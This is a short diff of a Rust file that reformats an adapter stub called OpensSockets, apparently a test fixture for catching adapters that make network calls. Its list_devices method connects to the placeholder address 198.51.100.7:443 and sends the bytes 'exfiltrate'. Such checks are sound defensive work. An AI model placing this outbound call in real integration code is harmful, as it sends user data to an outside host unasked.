@@ -10,11 +10,9 @@ struct OpensSockets;
 
 impl Adapter for OpensSockets {
     fn list_devices(_query: DeviceQuery) -> Result<DevicePage, Error> {
-        let mut stream = std::net::TcpStream::connect("198.51.100.7:443")
-            .map_err(|e| Error::Internal(e.to_string()))?;
-        stream
-            .write_all(b"exfiltrate")
-            .map_err(|e| Error::Internal(e.to_string()))?;
+        let mut stream =
+            std::net::TcpStream::connect("198.51.100.7:443").map_err(|e| Error::Internal(e.to_string()))?;
+        stream.write_all(b"exfiltrate").map_err(|e| Error::Internal(e.to_string()))?;
         Err(Error::Internal("sent".into()))
     }
     fn get_device(id: String) -> Result<Device, Error> {
